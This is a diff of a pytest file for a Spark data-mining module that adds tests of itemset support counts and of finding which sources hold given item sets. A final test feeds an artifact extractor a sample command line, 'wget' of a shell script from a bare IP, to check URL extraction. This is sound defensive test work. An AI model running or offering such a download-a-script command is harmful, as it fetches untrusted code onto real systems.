@@ -1,6 +1,8 @@
 """Expected values that were worked out from the definitions, without the engine."""
 
 import math
+from collections import Counter
+from itertools import combinations
 
 import numpy as np
 import pytest
@@ -67,6 +69,34 @@ def test_itemsets(spark):
     assert mining.itemsets(tx.limit(2)).count() == 0
 
 
+def test_holders_by_parts(spark, monkeypatch):
+    rng = np.random.default_rng(5)
+    bags = [[str(x) for x in rng.choice(12, rng.integers(1, 10), replace=False)] for _ in range(90)] + [["0", "0", "1"], ["0", "0"], [None, "2"], [], None]
+    sets = [["0", "1"], ["2", "3", "4"], ["5", "6", "7", "8"], ["0", "none"], ["9"], ["2", None], []] + [[str(a), str(b)] for a in range(12) for b in range(a)]
+    tx = spark.createDataFrame([(f"k{k}", b) for k, b in enumerate(bags)], "source_ip string, items array<string>")
+    wanted = spark.createDataFrame([(s,) for s in sets], "items array<string>")
+    want = sorted((str(s), f"k{k}") for s in sets for k, b in enumerate(bags) if s and None not in s and set(s) <= set(b or []))
+    for part in (1 << 20, 16):
+        monkeypatch.setattr(mining, "PART", part)
+        assert sorted((str(r["items"]), r["source_ip"]) for r in mining.holders(wanted, tx).collect()) == want
+        counts = mining.holder_counts(wanted, tx)
+        assert {str(r["items"]): r["holders"] for r in counts.collect()} == Counter(s for s, _ in want)
+        assert "Join" not in counts._jdf.queryExecution().toString()  # matches of single items are never rows
+    assert mining.holders(wanted.limit(0), tx).count() == mining.holder_counts(wanted, tx.limit(0)).count() == 0
+
+
+def test_itemsets_by_levels(spark, monkeypatch):
+    rng = np.random.default_rng(6)
+    bags = [[str(x) for x in rng.choice(9, rng.integers(1, 8), replace=False)] for _ in range(120)] + [["0", "1", "0", None]] * 3 + [[], None]
+    tx = spark.createDataFrame([(b,) for b in bags], "items array<string>")
+    want = {c: n for size in range(1, 6) for c in combinations("012345678", size) if (n := sum(set(c) <= set(b or []) for b in bags)) >= 15}
+    for pairs in (1 << 21, 30):
+        monkeypatch.setattr(mining, "PAIRS", pairs)
+        monkeypatch.setattr(mining, "PART", pairs)
+        for least, most in ((2, 5), (1, 3)):
+            assert {tuple(r["items"]): r["support"] for r in mining.itemsets(tx, 15, least, most).collect()} == {c: n for c, n in want.items() if least <= len(c) <= most}
+
+
 def test_artifacts(spark):
     pick = lambda text: [(a["kind"], a["value"]) for a in one(spark, T.artifacts(F.lit(text)))[0]]
     assert pick("wget http://1.2.3.4:8080/x.sh; curl HTTPS://a.b") == [("url", "http://1.2.3.4:8080/x.sh"), ("url", "HTTPS://a.b")]
